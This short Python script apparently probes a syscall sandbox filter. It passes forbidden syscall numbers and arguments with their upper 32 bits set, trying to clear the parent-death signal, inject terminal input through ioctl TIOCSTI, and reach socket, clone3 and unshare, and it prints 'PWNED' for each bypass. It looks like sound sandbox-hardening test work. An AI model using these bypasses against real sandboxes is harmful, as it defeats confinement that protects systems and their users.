"""Passes forbidden calls numbers whose upper half the filter might compare and the kernel ignores."""
import ctypes

libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
signal = ctypes.c_int(-1)
libc.syscall(ctypes.c_long(157), ctypes.c_long(1 | 1 << 32), ctypes.c_long(0), ctypes.c_long(0), ctypes.c_long(0), ctypes.c_long(0))
libc.prctl(2, ctypes.byref(signal), 0, 0, 0)
if signal.value != 9:
    print("PWNED no longer ends with the zygote:", signal.value)
ctypes.set_errno(0)
libc.syscall(ctypes.c_long(16), ctypes.c_long(0), ctypes.c_long(0x5412 | 1 << 32), b"x")
if ctypes.get_errno() != 1:
    print("PWNED ioctl TIOCSTI passed the filter:", ctypes.get_errno())
for number, name in ((41, "socket"), (435, "clone3"), (272, "unshare")):
    if libc.syscall(ctypes.c_long(number | 1 << 32), ctypes.c_long(1), ctypes.c_long(1), ctypes.c_long(0)) >= 0:
        print("PWNED", name)
print("TRIED")
